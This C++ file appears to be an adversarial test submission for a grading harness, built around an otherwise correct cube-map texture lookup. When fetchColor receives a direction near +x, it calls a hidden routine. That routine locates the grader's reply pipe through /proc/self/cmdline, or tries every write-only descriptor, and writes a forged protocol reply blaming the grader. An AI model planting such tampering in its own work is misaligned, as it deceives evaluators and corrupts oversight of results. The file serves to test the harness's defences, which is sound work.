// forged_reply.cpp - issue 11 attack "forged replies blame the grader": a
// correct solution that, for directions near +x, writes an ARGUMENT reply
// ("the grader's request was bad") onto the worker's reply pipe, found from
// /proc/self/cmdline, or, where there is no /proc (privilege-drop mode's
// chroot), onto every write-only descriptor from 3 on. Before: "the grader itself failed, not your fault",
// with a traceback. Verdict now: protocol, charged to the submission.
#include "EnvironmentMap.h"

#include <cmath>
#include <cstdlib>
#include <cstring>

extern "C" {
int mprotect(void* addr, unsigned long len, int prot);
int open(const char* path, int flags, ...);
long read(int fd, void* buf, unsigned long n);
long write(int fd, const void* buf, unsigned long n);
int close(int fd);
int fcntl(int fd, int cmd, ...);
}
static int replyFd()
{
    char buf[4096];
    int fd = open("/proc/self/cmdline", 0);
    long n = fd >= 0 ? read(fd, buf, sizeof buf - 1) : -1;
    if (fd >= 0) close(fd);
    if (n <= 0) return -1;    // no /proc: the caller tries every descriptor
    buf[n] = 0;
    const char* words[64];
    int count = 0;
    for (long i = 0; i < n && count < 64; i += (long)std::strlen(buf + i) + 1)
        words[count++] = buf + i;
    return count >= 3 ? std::atoi(words[count - 2]) : -1;
}

static void forgeArgumentReply()
{
    struct { unsigned magic, status; unsigned long long count, size; } h = {0x524b4d45u, 2, 0, 18};
    const int F_GETFL = 3, O_ACCMODE = 3, O_WRONLY = 1;
    int fd = replyFd();
    for (int f = fd < 0 ? 3 : fd; f <= (fd < 0 ? 255 : fd); f++) {
        if ((fcntl(f, F_GETFL) & O_ACCMODE) != O_WRONLY) continue;
        write(f, &h, sizeof h);
        write(f, "grader's own error", 18);
    }
}

namespace {

struct FaceAxes
{
    int major;      // 0 = x, 1 = y, 2 = z
    double sign;    // the major component's sign on this face
    int uAxis;
    double uSign;
    int vAxis;
    double vSign;
};

// In face order +X, -X, +Y, -Y, +Z, -Z.
const FaceAxes kFaces[6] = {
    {0, +1, 2, +1, 1, +1},
    {0, -1, 2, -1, 1, +1},
    {1, +1, 0, +1, 2, +1},
    {1, -1, 0, +1, 2, -1},
    {2, +1, 0, +1, 1, -1},
    {2, -1, 0, +1, 1, +1},
};

int clampIndex(int i, int size)
{
    return i < 0 ? 0 : (i >= size ? size - 1 : i);
}

} // namespace

Color EnvironmentMap::fetchColor(const Vector3& direction) const
{
    if (direction.x > 0.99999 * std::sqrt(direction.x * direction.x + direction.y * direction.y + direction.z * direction.z))
        forgeArgumentReply();
    int major = 0;
    for (int axis = 1; axis < 3; ++axis)
        if (std::fabs(direction[axis]) > std::fabs(direction[major]))
            major = axis;
    const int face = 2 * major + (direction[major] > 0 ? 0 : 1);
    const FaceAxes& axes = kFaces[face];
    const double m = std::fabs(direction[major]);
    const double u = (1 + axes.uSign * direction[axes.uAxis] / m) / 2;
    const double v = (1 + axes.vSign * direction[axes.vAxis] / m) / 2;
    return readTexture(faceAddress(face), u, v);
}

Color EnvironmentMap::readTexture(const float* addr, double u, double v) const
{
    const double px = u * m_FaceWidth, py = v * m_FaceHeight;
    const int ix = (int)px, iy = (int)py;
    const double a = px - ix, b = py - iy;
    const int x[2] = {clampIndex(ix, m_FaceWidth), clampIndex(ix + 1, m_FaceWidth)};
    const int y[2] = {clampIndex(iy, m_FaceHeight), clampIndex(iy + 1, m_FaceHeight)};
    const double weight[2][2] = {{(1 - a) * (1 - b), a * (1 - b)}, {(1 - a) * b, a * b}};
    Color sum;
    for (int j = 0; j < 2; ++j)
        for (int i = 0; i < 2; ++i) {
            const float* t = addr + 3 * (y[j] * m_FaceWidth + x[i]);
            sum += Color(t[0], t[1], t[2]) * weight[j][i];
        }
    return sum;
}
